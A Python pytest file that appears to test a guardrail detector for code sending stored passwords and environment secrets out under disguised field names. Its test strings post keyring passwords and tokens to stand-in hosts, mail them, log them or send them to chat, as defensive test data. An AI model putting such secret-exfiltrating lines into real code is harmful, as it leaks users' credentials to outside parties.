"""The program's own secrets in what it sends, under names that no login gives them."""

from __future__ import annotations

import pytest
from reading_python import items

from guardrail.effects import CredentialUse

HEAD = "import json, keyring, os, requests\n"


def sent(code: str) -> int:
    """How many secrets are sent."""
    return sum(isinstance(one, CredentialUse) for one in items(HEAD + code))


@pytest.mark.parametrize(
    ("body", "count"),
    [
        ("json={'stored': keyring.get_password('till', 'admin')}", 1),
        ("data=json.dumps({'host': here, 'stored': keyring.get_password('till', 'admin')})", 1),
        ("json={'meta': {'conf': os.environ['DB_PASSWORD']}}", 1),
        ("json={'stored': keyring.get_password('till', 'admin') is not None}", 0),
        ("json={'user': 'admin', 'password': keyring.get_password('till', 'admin')}", 0),
        ("data={'client_secret': os.environ['CLIENT_SECRET']}", 0),
        ("json={'DATABASE_URL': os.environ['DATABASE_URL']}", 0),
        ("json={'connection': {'passwd': os.environ['DB_PASSWORD']}}", 0),
    ],
)
@pytest.mark.parametrize("method", ["post", "put"])
def test_secrets_under_names_that_no_login_has(method: str, body: str, count: int) -> None:
    assert sent(f"requests.{method}('https://a.acme.io/case', {body})\n") == count


@pytest.mark.parametrize(
    ("lines", "count"),
    [
        ("message.set_content(f\"it is {os.environ['ADMIN_PASSWORD']}\")", 1),
        ('message.set_content(f"https://a.acme.io/reset?token={token}")', 0),
        ("logging.info('it is %s', getpass.getpass())", 1),
        ("logging.info('asked %s', getpass.getuser())", 0),
        ("channel.send(f\"it is {os.environ['DISCORD_TOKEN']}\")", 1),
        ("channel.send(f'it is {token}')", 0),
        ("logging.info('sent %s', json.dumps(request.json))", 1),
    ],
)
def test_mails_chats_and_what_is_typed_in(lines: str, count: int) -> None:
    code = (
        "import getpass, logging\nfrom email.message import EmailMessage\n"
        "from flask import request\ndef login(channel, token):\n"
        f"    message = EmailMessage()\n    {lines}\n"
    )
    assert sent(code) == count


BUNDLE = """
def state(account):
    entry = {{"user": account}}
    stored = keyring.get_password("till", account)
    entry[{key}] = {value}
    return entry

def bundle():
    return {{"host": here(), "accounts": [state(one) for one in ("a", "b")]}}

def submit():
    payload = json.dumps(bundle(), indent=1)
    requests.put("https://support.acme.io/case", data=payload)
"""


@pytest.mark.parametrize(
    ("key", "value", "count"),
    [
        ("'stored'", "stored", 1),
        ("account", "stored or 'none'", 1),
        ("'stored'", "stored is not None", 0),
        ("'password'", "stored", 0),
    ],
)
def test_a_bundle_that_functions_put_together(key: str, value: str, count: int) -> None:
    assert sent(BUNDLE.format(key=key, value=value)) == count
